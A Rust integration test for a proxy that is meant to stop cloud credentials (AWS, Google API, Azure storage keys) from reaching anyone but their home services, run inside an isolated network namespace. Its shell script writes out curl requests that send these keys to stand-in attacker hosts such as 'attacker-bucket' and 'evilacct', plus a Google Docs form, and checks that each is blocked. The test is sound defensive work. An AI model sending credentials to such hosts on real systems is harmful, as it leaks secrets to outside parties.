//! Home hosts through the real proxy: a credential passes only to the endpoints where it
//! is legitimately sent in that form, never to a namespace where a stranger runs the
//! receiving end (issue 8 item 9).
//!
//! The real host names must resolve to a local origin, so the whole scenario runs in its
//! own network *and* mount namespace (`unshare -mn`): `/etc/hosts` is bind-mounted there
//! with the names pointing at 127.0.0.1, `lo` is the only interface, and nothing can
//! leave the machine. Needs root (as CI runs); under `CI=true` a missing peer fails.

mod common;

use common::require_peer;

const AWS_KEY_ID: &str = "AKIAQYLPMN5HFIQR7VUX";
const GOOGLE_KEY: &str = "AIzaSyB4xK9mQ2vL7nR3tW8pZ5cF1hJ6dG0sE2u";
const AZURE_ACCOUNT_KEY: &str =
    "TePrUNtwR2mflMRRe77W5aQSnsJm1lroABgOJB3NWNMn/vZNh/OlUfbqTi1QobhM+9y3mN9atP0ph+m1hX/+CX==";

#[test]
fn credentials_pass_to_their_home_only_and_never_to_strangers_namespaces() {
    for peer in ["python3", "curl", "unshare"] {
        if !require_peer(peer) {
            return;
        }
    }
    if common::netns::namespaces_missing("-mn") {
        return;
    }
    let sigv4 = format!(
        "Authorization: AWS4-HMAC-SHA256 Credential={AWS_KEY_ID}/20260101/us-east-1/sts/aws4_request, \
         SignedHeaders=host;x-amz-date, Signature=5d672d79c15b13162d9279b0855cfba6789a8edb4c82c400e06b5924a6f2b5d7"
    );
    let script = r#"set -u
ip link set lo up
TMP=$(mktemp -d)
trap 'kill $(jobs -p) 2>/dev/null; rm -rf "$TMP"' EXIT
cat /etc/hosts > "$TMP/hosts"
for h in sts.amazonaws.com attacker-bucket.s3.amazonaws.com generativelanguage.googleapis.com \
         docs.google.com evilacct.blob.core.windows.net; do
  echo "127.0.0.1 $h" >> "$TMP/hosts"
done
mount --bind "$TMP/hosts" /etc/hosts || { echo "MOUNT FAILED"; exit 1; }
wait_http() {
  for _ in $(seq 1 300); do
    code=$(curl -s -o /dev/null -w '%{http_code}' ${2:+-x "$2"} "$1" 2>/dev/null)
    [ "$code" != "000" ] && return 0
    sleep 0.1
  done
  echo "TIMEOUT waiting for $1"; return 1
}
(cd "$TMP" && echo origin-ok > index.html && exec python3 -m http.server --bind 127.0.0.1 18480 >/dev/null 2>&1) &
wait_http http://127.0.0.1:18480/ || exit 1
"$CLAWGUARD" run --listen 127.0.0.1:18481 --ca-dir "$TMP/ca" --allow-root --allow-private 2>"$TMP/proxy.log" &
wait_http http://127.0.0.1:18481/ || exit 1
P=http://127.0.0.1:18481
req() { # name url [curl args...]
  local name=$1 url=$2; shift 2
  echo "$name=$(curl -s -o /dev/null -w '%{http_code}' -x $P "$@" "$url")"
}
req AWS_HOME http://sts.amazonaws.com:18480/ -H "$SIGV4"
req AWS_BUCKET http://attacker-bucket.s3.amazonaws.com:18480/ -H "$SIGV4"
req GOOGLE_HOME "http://generativelanguage.googleapis.com:18480/?key=$GOOGLE_KEY"
req GOOGLE_DOCS "http://docs.google.com:18480/forms/d/e/x/formResponse?key=$GOOGLE_KEY"
req AZURE_BLOB http://evilacct.blob.core.windows.net:18480/c/b -H "x-ms-meta-conn: DefaultEndpointsProtocol=https;AccountName=evilacct;AccountKey=$AZURE_KEY"
echo "--- proxy log ---"
cat "$TMP/proxy.log"
"#;
    let out = common::netns::run_in_namespace(
        "-mn",
        script,
        &[
            ("SIGV4", &sigv4),
            ("GOOGLE_KEY", GOOGLE_KEY),
            ("AZURE_KEY", AZURE_ACCOUNT_KEY),
        ],
    );
    eprintln!("{out}");
    // The legitimate home hosts still work: the key id inside a SigV4 signature to STS,
    // the API key to Google's API front end. They reached the origin (200).
    assert!(out.contains("AWS_HOME=200"), "{out}");
    assert!(out.contains("GOOGLE_HOME=200"), "{out}");
    // A stranger's S3 bucket, a Google Docs form and someone's storage account do not
    // get them.
    assert!(out.contains("AWS_BUCKET=403"), "{out}");
    assert!(out.contains("GOOGLE_DOCS=403"), "{out}");
    assert!(out.contains("AZURE_BLOB=403"), "{out}");
    for rule in [
        "aws-access-key-id",
        "google-api-key",
        "azure-storage-account-key",
    ] {
        assert!(out.contains(rule), "no block naming {rule}: {out}");
    }
    // Nothing raw in the proxy's own log.
    let log = out.split("--- proxy log ---").nth(1).unwrap_or_default();
    for secret in [AWS_KEY_ID, GOOGLE_KEY, AZURE_ACCOUNT_KEY] {
        assert!(!log.contains(secret), "raw value in the proxy log: {log}");
    }
}
